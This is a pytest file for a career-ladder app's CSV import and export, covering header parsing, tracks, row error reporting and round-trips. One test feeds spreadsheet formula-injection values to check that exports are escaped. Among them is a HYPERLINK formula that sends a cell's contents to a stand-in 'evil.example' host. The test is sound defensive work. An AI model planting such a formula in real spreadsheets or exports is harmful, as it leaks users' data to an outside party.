"""CSV ladders: one row per competency, tracks joined by '|', examples one per line."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest

from app.ladders.formats import LadderFormatError, export_csv, parse

CSV = """\
track,level,category,competency,description,examples
ic|manager,Engineer I,Craft,Writes tests,"Unit tests for new logic.","Added importer tests
Fixed a flaky test"
ic|manager,Engineer I,People,Asks for help early,,
ic,Staff engineer,Craft,Sets technical direction,,
manager,Engineering manager,People,Runs one-to-ones,,
"""


def parse_csv(text: str, name: str = "eng-ladder.csv", **kw):
    return parse(text.encode("utf-8"), filename=name, **kw)


def problems_of(text: str | bytes, name: str = "eng-ladder.csv") -> list:
    data = text if isinstance(text, bytes) else text.encode("utf-8")
    with pytest.raises(LadderFormatError) as caught:
        parse(data, filename=name)
    return caught.value.problems


def test_reads_levels_categories_tracks_in_first_appearance_order():
    spec = parse_csv(CSV)
    assert (spec.key, spec.name) == ("eng-ladder", "Eng ladder")
    assert [x.name for x in spec.levels] == ["Engineer I", "Staff engineer", "Engineering manager"]
    assert [x.key for x in spec.categories] == ["craft", "people"]
    assert {t.key: t.levels for t in spec.tracks} == {
        "ic": ("engineer-i", "staff-engineer"),
        "manager": ("engineer-i", "engineering-manager"),
    }
    first = spec.competencies[0]
    assert first.title == "Writes tests"
    assert first.examples == ("Added importer tests", "Fixed a flaky test")
    assert first.description == "Unit tests for new logic."
    assert first.key == "craft-engineer-i-writes-tests"


def test_header_is_case_insensitive_in_any_order_and_bom_crlf_are_fine():
    text = "\ufeffCompetency,LEVEL,Category\r\nWrites tests,L1,Craft\r\nReviews code,L2,Craft\r\n"
    spec = parse(text.encode("utf-8"), filename="x.csv", key="mine")
    assert spec.key == "mine"
    assert [c.title for c in spec.competencies] == ["Writes tests", "Reviews code"]
    # No track column: one track with every level, named after the ladder.
    assert [(t.key, t.levels) for t in spec.tracks] == [("main", ("l1", "l2"))]


def test_empty_track_cell_means_every_track():
    text = "track,level,category,competency\nic,L1,Craft,A\nmanager,L2,People,B\n,L1,People,C\n"
    spec = parse_csv(text)
    assert {t.key: t.levels for t in spec.tracks} == {"ic": ("l1",), "manager": ("l1", "l2")}


def test_repeated_titles_get_distinct_keys():
    text = "level,category,competency\nL1,Craft,Same\nL1,Craft,Same\n"
    keys = [c.key for c in parse_csv(text).competencies]
    assert keys == ["craft-l1-same", "craft-l1-same-2"]


def test_bad_rows_are_listed_with_their_csv_lines():
    text = (
        "track,level,category,competency,description,examples\n"
        'ic,L1,Craft,Fine,"two\nlines",\n'  # lines 2-3
        "ic,L1,Craft\n"  # line 4: missing cells
        "ic,L1,Craft,,,\n"  # line 5: empty competency
        "ic,,Craft,Levelless,,\n"  # line 6
        "ic,L1,Craft,Too many,,,extra\n"  # line 7
    )
    found = problems_of(text)
    assert [(p.line, p.message) for p in found] == [
        (4, "row has 3 cells but the header has 6 (missing cells)"),
        (5, "row has an empty competency cell"),
        (6, "row has an empty level cell"),
        (7, "row has 7 cells but the header has 6 (extra cells)"),
    ]


def test_bad_headers_are_refused():
    assert "lacks the column(s): category" in problems_of("level,competency\nL1,A\n")[0].message
    assert (
        "unknown column 'exmaples'"
        in problems_of("level,category,competency,exmaples\n")[0].message
    )
    assert "more than once" in problems_of("level,level,category,competency\n")[0].message
    assert "empty" in problems_of("\n\n")[0].message


def test_points_column_must_hold_numbers():
    found = problems_of("level,category,competency,points\nL1,Craft,A,lots\n")
    assert found[0].line == 2 and "not a number" in found[0].message
    assert (
        parse_csv("level,category,competency,points\nL1,Craft,A,2.5\n").competencies[0].points
        == 2.5
    )


def test_export_then_parse_gives_back_the_competencies():
    spec = parse_csv(CSV)
    back = parse_csv(export_csv(spec))
    assert back.competencies == spec.competencies
    assert back.levels == spec.levels
    assert back.categories == spec.categories
    assert {t.key: t.levels for t in back.tracks} == {t.key: t.levels for t in spec.tracks}
    assert export_csv(back) == export_csv(spec)


def test_export_writes_names_and_joined_tracks():
    lines = export_csv(parse_csv(CSV)).split("\n")
    assert lines[0] == (
        "track,level,category,competency,description,examples,key,track_key,level_key,category_key"
    )
    assert lines[1].startswith("ic|manager,Engineer I,Craft,Writes tests,")


@pytest.mark.parametrize(
    "title",
    ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1", "-2+3", "@SUM(A1)", "'=x"],
)
def test_export_quotes_cells_a_spreadsheet_would_run_and_import_unquotes_them(title):
    spec = parse_csv(CSV)
    first = replace(spec.competencies[0], title=title, description=title, examples=(title,))
    spec = replace(spec, competencies=(first, *spec.competencies[1:]))
    text = export_csv(spec)
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["competency"] == row["description"] == row["examples"] == "'" + title
    back = parse_csv(text).competencies[0]
    assert (back.title, back.description, back.examples) == (title, title, (title,))


def test_a_summary_whose_row_was_deleted_is_kept_when_reimporting():
    from app.ladders.formats import carry_over

    spec = parse_csv(CSV)
    craft = replace(spec.categories[0], summary="Code")
    spec = replace(spec, categories=(craft, *spec.categories[1:]))
    rows = list(csv.reader(io.StringIO(export_csv(spec))))
    assert rows[1][-1] == "Code"  # the first Craft row carries the summary
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([rows[0], *rows[2:]])
    again = carry_over(spec, parse_csv(out.getvalue()))
    assert again.categories[0].summary == "Code"
